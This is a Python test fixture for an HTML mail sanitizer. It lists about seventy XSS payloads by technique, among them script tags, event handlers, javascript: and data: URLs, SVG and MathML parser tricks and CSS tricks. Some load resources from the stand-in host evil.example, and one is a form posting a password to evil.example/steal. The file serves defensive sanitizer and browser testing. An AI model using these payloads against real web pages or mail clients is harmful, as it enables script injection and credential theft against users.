"""
Known ways to run script from HTML mail, for the sanitizer's tests
(L{harbor.test.test_render}) and the browser's (a message of each is
delivered and opened in Chromium).

Each vector would call C{alert(1)}, or navigate to a C{javascript:} URL
that does, if it ran; so a browser test proves the three layers
(sanitizer, Content-Security-Policy, C{<iframe sandbox>}) held when no
alert opened.  Gathered from the OWASP XSS filter evasion cheat sheet,
PortSwigger's XSS cheat sheet, html5sec.org and the advisories of mail
web interfaces (Roundcube, Mailpit, MailHog).

@var XSS_VECTORS: C{(name, html)} pairs; the names are unique and say
    what each tries.
"""

from __future__ import annotations

XSS_VECTORS: list[tuple[str, str]] = [
    # Script elements, plain and disguised.
    ("script", "<script>alert(1)</script>"),
    ("script-mixed-case", "<ScRiPt>alert(1)</sCrIpT>"),
    ("script-src", '<script src="https://evil.example/x.js"></script>'),
    ("script-split", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script-null-byte", "<scr\x00ipt>alert(1)</scr\x00ipt>"),
    ("script-in-attribute-break", '<p title="</p><script>alert(1)</script>">x</p>'),
    ("script-unclosed", "<script>alert(1)"),
    ("script-slash", "<script/xss>alert(1)</script>"),
    ("script-in-comment", "<!--<script>alert(1)</script>-->ok"),
    ("script-conditional-comment", "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->ok"),
    ("script-cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    # Event handlers.
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("img-onerror-no-quotes-slash", "<img/src/onerror=alert(1)>"),
    ("body-onload", "<body onload=alert(1)>text</body>"),
    ("div-onmouseover", '<div onmouseover="alert(1)">hover</div>'),
    ("onfocus-autofocus", '<input autofocus onfocus="alert(1)">'),
    ("details-ontoggle", "<details open ontoggle=alert(1)><summary>x</summary></details>"),
    ("video-onerror", "<video><source onerror=alert(1)></video>"),
    ("audio-onerror", "<audio src=x onerror=alert(1)></audio>"),
    ("marquee-onstart", "<marquee onstart=alert(1)>x</marquee>"),
    ("table-onmouseover-mixed-case", '<table OnMouseOver="alert(1)"><tr><td>x</td></tr></table>'),
    ("onerror-entity-encoded", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>"),
    # javascript: and other script URLs.
    ("a-javascript", '<a href="javascript:alert(1)">click</a>'),
    ("a-javascript-mixed-case", '<a href="JaVaScRiPt:alert(1)">click</a>'),
    ("a-javascript-entities", '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>'),
    ("a-javascript-hex-entities", '<a href="&#x6A;avascript&#x3A;alert(1)">click</a>'),
    ("a-javascript-tab", '<a href="jav&#x09;ascript:alert(1)">click</a>'),
    ("a-javascript-newline", '<a href="java\nscript:alert(1)">click</a>'),
    ("a-javascript-leading-space", '<a href=" &#14;javascript:alert(1)">click</a>'),
    ("a-javascript-null", '<a href="java\x00script:alert(1)">click</a>'),
    ("a-vbscript", '<a href="vbscript:msgbox(1)">click</a>'),
    ("a-data-html", '<a href="data:text/html,<script>alert(1)</script>">click</a>'),
    ("a-data-html-base64", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>'),
    ("img-javascript", '<img src="javascript:alert(1)">'),
    ("img-data-svg", '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'),
    ("area-javascript", '<map name=m><area href="javascript:alert(1)" shape=rect coords=0,0,9,9></map>'),
    # Forms.
    ("form-action", '<form action="javascript:alert(1)"><input type=submit value=go></form>'),
    ("button-formaction", '<form><button formaction="javascript:alert(1)">go</button></form>'),
    ("input-formaction", '<form id=f></form><input form=f type=submit formaction="javascript:alert(1)">'),
    ("form-phishing-post", '<form action="https://evil.example/steal" method=post><input name=password type=password></form>'),
    # SVG and MathML.
    ("svg-onload", "<svg onload=alert(1)>"),
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-xlink-href", '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>click</text></a></svg>'),
    ("svg-animate-href", '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>click</text></a></svg>'),
    ("svg-foreignobject", "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></iframe></foreignObject></svg>"),
    ("math-href", '<math><mtext><a href="javascript:alert(1)">click</a></mtext></math>'),
    ("math-mglyph-style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>"),
    # Frames and plug-ins.
    ("iframe-src", '<iframe src="javascript:alert(1)"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    ("object-data", '<object data="data:text/html,<script>alert(1)</script>"></object>'),
    ("embed-src", '<embed src="data:text/html,<script>alert(1)</script>">'),
    ("frameset", '<frameset><frame src="javascript:alert(1)"></frameset>'),
    # The document around the message.
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("meta-refresh-data", '<meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(1)</script>">'),
    ("base-href", '<base href="javascript:alert(1)//"><a href="x">click</a>'),
    ("link-import", '<link rel="import" href="https://evil.example/x.html">'),
    ("link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    # Style.
    ("style-expression", '<div style="width: expression(alert(1))">x</div>'),
    ("style-url-javascript", '<div style="background:url(javascript:alert(1))">x</div>'),
    ("style-escaped-url", '<div style="background:u\\72l(https://evil.example/t.gif)">x</div>'),
    ("style-behavior", '<div style="behavior: url(https://evil.example/x.htc)">x</div>'),
    ("style-moz-binding", '<div style="-moz-binding: url(https://evil.example/x.xml#xss)">x</div>'),
    ("style-element-import", '<style>@import "https://evil.example/x.css";</style>x'),
    ("style-element-breakout", "<style></style><script>alert(1)</script></style>"),
    # Parser tricks.
    ("template", "<template><img src=x onerror=alert(1)></template>"),
    ("noscript-breakout", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
    ("textarea-breakout", "<textarea><img src=x onerror=alert(1)></textarea>"),
    ("title-breakout", "<title><img src=x onerror=alert(1)></title>"),
    ("xmp-breakout", "<xmp></xmp><img src=x onerror=alert(1)></xmp>"),
    ("attribute-quote-breakout", '<img alt="x" "onerror="alert(1)" src=x>'),
    ("backtick-attribute", "<img src=`x` onerror=`alert(1)`>"),
    ("srcset", '<img srcset="javascript:alert(1) 1x, https://evil.example/t.gif 2x">'),
    ("background-attribute", '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>'),
    ("isindex-action", '<isindex action="javascript:alert(1)" type=submit>'),
    ("custom-element-onclick", '<x-widget onclick="alert(1)">x</x-widget>'),
]
